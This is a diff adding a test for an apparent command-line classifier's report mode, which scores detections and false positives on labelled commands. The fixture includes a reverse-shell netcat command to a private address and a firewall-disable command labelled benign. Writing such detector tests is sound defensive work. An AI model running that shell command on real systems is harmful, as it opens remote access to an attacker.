@@ -41,6 +41,24 @@ describe('classify command', () => {
     expect(err).toMatch(/line 1: not JSON/);
   });
 
+  test('--report scores labelled lines: detected per category, false positives on benign lines', async () => {
+    const lines = [
+      { category: 'reverse_shell', cmdline: 'nc -e /bin/sh 10.0.0.1 4444' },
+      { category: 'reverse_shell', cmdline: 'echo hello' },
+      { category: 'crypto_miner', cmdline: 'nc -e /bin/sh 10.0.0.1 4444' },
+      { category: 'benign', cmdline: 'kubectl get pods -A' },
+      { category: 'benign', cmdline: 'ufw disable' },
+    ].map((o) => JSON.stringify(o)).join('\n');
+    const { code, out, err } = await run(`${lines}\n`, ['--report']);
+    expect(code).toBe(0);
+    expect(out).toHaveLength(5);
+    expect(err).toMatch(/reverse_shell\s+1\/2\s+0\.500/);
+    expect(err).toMatch(/crypto_miner\s+1\/1\s+1\.000/);
+    expect(err).toMatch(/recall \(malicious\)\s+2\/3\s+0\.667\s+same category 0\.333/);
+    expect(err).toMatch(/false-positive rate\s+1\/2\s+0\.500/);
+    expect((await run('{}', ['--reprot'])).code).toBe(2);
+  });
+
   test('a 10 MB command line is cut and classified without trouble', async () => {
     const { code, out } = await run(`${JSON.stringify({ cmdline: `python -c '${'x'.repeat(10 * 1024 * 1024)}'` })}\n`);
     expect(code).toBe(0);
